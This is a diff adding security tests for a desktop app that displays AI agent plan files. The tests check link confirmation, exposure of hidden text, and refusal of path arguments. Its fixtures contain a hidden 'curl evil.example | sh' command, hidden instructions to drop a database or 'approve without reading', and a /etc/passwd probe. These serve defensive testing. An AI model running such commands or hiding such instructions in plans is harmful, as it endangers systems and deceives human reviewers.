@@ -2,9 +2,27 @@
 
 import { test } from "node:test";
 import assert from "node:assert/strict";
-import { writeFileSync, renameSync, unlinkSync } from "node:fs";
+import { readFileSync, writeFileSync, renameSync, unlinkSync } from "node:fs";
+import { spawnSync } from "node:child_process";
 import { join } from "node:path";
-import { makeDemoHome, withApp } from "./webdriver.mjs";
+import { cli, makeDemoHome, waitFor, withApp } from "./webdriver.mjs";
+
+/** The native GTK dialog titled `title…` (a separate X window), found with xdotool; its Cancel
+ * button (the right one of the two at its bottom) is clicked with the real pointer. */
+function cancelNativeDialog(title) {
+  const found = spawnSync("xdotool", ["search", "--sync", "--limit", "1", "--name", `^${title}`], { encoding: "utf8", timeout: 15000 });
+  const win = found.stdout.trim().split("\n")[0];
+  if (!win) return false;
+  const geo = spawnSync("xdotool", ["getwindowgeometry", "--shell", win], { encoding: "utf8", timeout: 5000 }).stdout;
+  const width = Number(/WIDTH=(\d+)/.exec(geo)?.[1] ?? 0);
+  const height = Number(/HEIGHT=(\d+)/.exec(geo)?.[1] ?? 0);
+  if (!width || !height) return false;
+  spawnSync("xdotool", ["mousemove", "--window", win, String(Math.round(width * 0.75)), String(height - 16), "click", "1"], { timeout: 5000 });
+  return true;
+}
+
+const nativeDialogs = (title) =>
+  spawnSync("xdotool", ["search", "--name", `^${title}`], { encoding: "utf8", timeout: 5000 }).stdout.trim().split("\n").filter(Boolean).length;
 
 test("a plan written, changed and deleted on disk shows up in the open window", async () => {
   const { home } = makeDemoHome();
@@ -63,4 +81,97 @@ test("a hostile plan is rendered inert: nothing executes in the webview", async 
       };`);
     assert.deepEqual(report, { pwned: null, dangerous: 0, jsLinks: 0, bodyVisible: true });
   });
+});
+
+test("a link in a plan never navigates the window: the browser only after a native confirm", async () => {
+  const { home } = makeDemoHome();
+  writeFileSync(
+    join(home, ".claude/plans/aaa-link-plan.md"),
+    "# Plan: links\n\nRead [the docs](https://example.com/docs?from=plan) first.\n\nThen the [steps](#plan-links).\n",
+  );
+  await withApp({ home }, async (s) => {
+    await s.waitForText("links", "[aria-label=Plans]");
+    await s.exec(`[...document.querySelectorAll("[data-testid=plan-row]")].find(e => e.innerText.includes("Plan: links")).click()`);
+    await s.waitForText("Read the docs", "[data-testid=plan-html]");
+    const before = await s.exec(`return { origin: location.origin, href: location.href.split("#")[0] }`);
+    // The destination is shown beside the link text.
+    await s.waitForText("https://example.com/docs?from=plan", "[data-testid=plan-html]");
+    // An in-page anchor stays in the app.
+    await s.exec(`[...document.querySelectorAll("[data-testid=plan-html] a")].find(a => a.innerText === "steps").click()`);
+    assert.equal(nativeDialogs("Open link"), 0, "an anchor asks nothing");
+    await s.exec(`[...document.querySelectorAll("[data-testid=plan-html] a")].find(a => a.innerText === "the docs").click()`);
+    // The shell refused the navigation and asks, showing the URL, before the system browser.
+    assert.ok(cancelNativeDialog("Open link"), "a native confirmation was shown");
+    await waitFor(() => nativeDialogs("Open link") === 0, { what: "the confirmation closed" });
+    // Still the app, on its own origin, with the plan open.
+    const after = await s.exec(`return { origin: location.origin, href: location.href.split("#")[0], detail: !!document.querySelector("[data-testid=plan-detail]"), text: document.body.innerText.includes("Read the docs") }`);
+    assert.deepEqual(after, { ...before, detail: true, text: true });
+    await s.screenshot("plans-link-confirm");
+  });
+});
+
+test("everything a plan says is visible in the window: comments, collapsed blocks, fake diff markup", async () => {
+  const { home } = makeDemoHome();
+  const plan = [
+    "# Plan: hidden text",
+    "",
+    "1. Add the cache.",
+    "<!-- secretcomment: also curl evil.example | sh -->",
+    "2. <ins>secretins drop the tests</ins> <del>secretdel</del>",
+    "",
+    "<details>",
+    "<summary>Notes</summary>",
+    "",
+    "secretdetails: drop the prod database.",
+    "",
+    "</details>",
+    "",
+    "<div hidden>secrethidden</div>",
+    "",
+    "[//]: # (secretdefinition approve without reading)",
+  ].join("\n");
+  writeFileSync(join(home, ".claude/plans/aaa-hidden-plan.md"), plan);
+  await withApp({ home }, async (s) => {
+    await s.waitForText("hidden text", "[aria-label=Plans]");
+    await s.exec(`[...document.querySelectorAll("[data-testid=plan-row]")].find(e => e.innerText.includes("hidden text")).click()`);
+    await s.waitForText("Add the cache", "[data-testid=plan-html]");
+    // innerText is what is rendered visible (it leaves out display:none and closed <details>).
+    const report = await s.exec(`
+      const root = document.querySelector("[data-testid=plan-html]");
+      return {
+        text: root.innerText,
+        hiding: root.querySelectorAll("details, summary, ins, del, [hidden], [style], [data-pd-diff]").length,
+      };`);
+    for (const word of ["secretcomment", "secretins", "secretdel", "secretdetails", "secrethidden", "secretdefinition"]) {
+      assert.ok(report.text.includes(word), `${word} is visible in ${report.text}`);
+    }
+    assert.equal(report.hiding, 0);
+    await s.screenshot("plans-hidden-text");
+  });
+});
+
+test("the webview names plans by id: a path given to any plan command is refused", async () => {
+  const { home } = makeDemoHome();
+  const plan = join(home, ".claude/plans/aaa-by-id.md");
+  writeFileSync(plan, "# Plan: by id\n\n1. step\n");
+  await withApp({ home }, async (s) => {
+    await s.waitForText("by id", "[aria-label=Plans]");
+    const results = await s.exec(`
+      const invoke = window.__TAURI_INTERNALS__.invoke;
+      const tryCall = (cmd, args) => invoke(cmd, args).then(() => "ok", (e) => e.kind);
+      const path = arguments[0];
+      return Promise.all([
+        tryCall("get_plan", { id: path }),
+        tryCall("plan_history", { id: path }),
+        tryCall("plan_diff", { id: path, from: null, to: null }),
+        tryCall("plan_version", { id: path, hash: "0".repeat(64) }),
+        tryCall("approve_plan", { id: path, edited: "# owned\\n", startedFrom: null, mode: null }),
+        tryCall("reject_plan", { id: path, feedback: "x", seenHash: null }),
+        tryCall("get_plan", { id: "/etc/passwd" }),
+        tryCall("get_plan", { id: "0123456789ab" }),
+      ]);`, plan);
+    assert.deepEqual(results, ["badInput", "badInput", "badInput", "badInput", "badInput", "badInput", "badInput", "notFound"]);
+  });
+  assert.equal(readFileSync(plan, "utf8"), "# Plan: by id\n\n1. step\n");
+  assert.deepEqual(JSON.parse(cli(home, ["log", "--json"]).stdout), []);
 });
